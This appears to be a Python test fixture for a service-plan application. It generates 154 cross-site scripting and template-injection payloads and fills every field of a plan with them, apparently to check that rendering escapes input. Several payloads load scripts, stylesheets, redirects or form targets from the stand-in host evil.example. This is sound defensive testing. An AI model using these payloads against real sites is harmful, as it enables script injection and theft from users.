"""What somebody may write into a plan to have a browser run or load something, and a plan that says it everywhere."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import replace
from itertools import cycle

from msp_desk.values.plan_content import NumberSaid, PlanContent

_TAGS = (
    "<script>alert({n})</script>",
    "<ScRiPt src=//evil.example/{n}.js></sCrIpT>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<a href=javascript:alert({n})>x</a>",
    "<math><mi xlink:href='javascript:alert({n})'>x</mi></math>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<style>@import url(//evil.example/{n}.css);</style>",
    "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}>",
    "<form action=//evil.example/{n}><button>x</button></form>",
    "<!--><script>alert({n})</script>-->",
    "{{{{ {n} * 7 }}}}",
    "${{alert({n})}}",
)
_AROUND = ("%s", '">%s', "'>%s", "</title>%s", "</style>%s", "</script>%s", "</textarea>%s")

#: A hundred and fifty-four of them, each as text, and as the end of what it may stand in.
ATTACKS = tuple(
    (around % tag.format(n=number))
    for number, (tag, around) in enumerate((tag, around) for tag in _TAGS for around in _AROUND)
)


def everywhere(content: PlanContent, texts: Sequence[str]) -> PlanContent:
    """The content with the texts one after the other in all of its fields; each stands somewhere."""
    next_of = cycle(texts)
    lines = max(1, -(-len(texts) // 6))

    def said() -> str:
        return next(next_of)

    def more() -> Iterator[int]:
        return iter(range(lines))

    scope = content.scope[0]
    step = content.procedures[0].steps[0]
    promise = content.commitments[0]
    return replace(
        content,
        firm=replace(content.firm, name=said(), legal_name=said(), tax_id=said(), address=said()),
        client=replace(content.client, legal_name=said(), address=said()),
        introduction=said(),
        scope=tuple(
            replace(
                scope,
                key=f"s{n}",
                service=said(),
                name=said(),
                quantity=said(),
                unit=said(),
                sites=(said(),),
                hours=said(),
                limits=said(),
                notes=said(),
            )
            for n in more()
        ),
        seats=tuple(
            replace(
                s,
                holder=said(),
                title=said(),
                unit=said(),
                numbers=tuple(NumberSaid(p.kind, said(), said()) for p in s.numbers),
            )
            for s in content.seats
        ),
        roles=tuple(replace(role, contact_for=said(), hours=said()) for role in content.roles),
        counterparts=tuple(replace(tie, topic=said()) for tie in content.counterparts),
        procedures=tuple(
            replace(
                p, name=said(), needed=said(), hours=said(), steps=(replace(step, text=said(), who=said()),)
            )
            for p in content.procedures
        ),
        commitments=tuple(
            replace(
                promise,
                key=f"c{n}",
                service=said(),
                indicator=said(),
                hours=said(),
                measured_how=said(),
                measured_from=said(),
                exclusions=said(),
            )
            for n in more()
        ),
        ladders=tuple(
            replace(
                ladder,
                severity=said(),
                description=said(),
                rungs=tuple(replace(r, number=said()) for r in ladder.rungs),
            )
            for ladder in content.ladders
        ),
    )
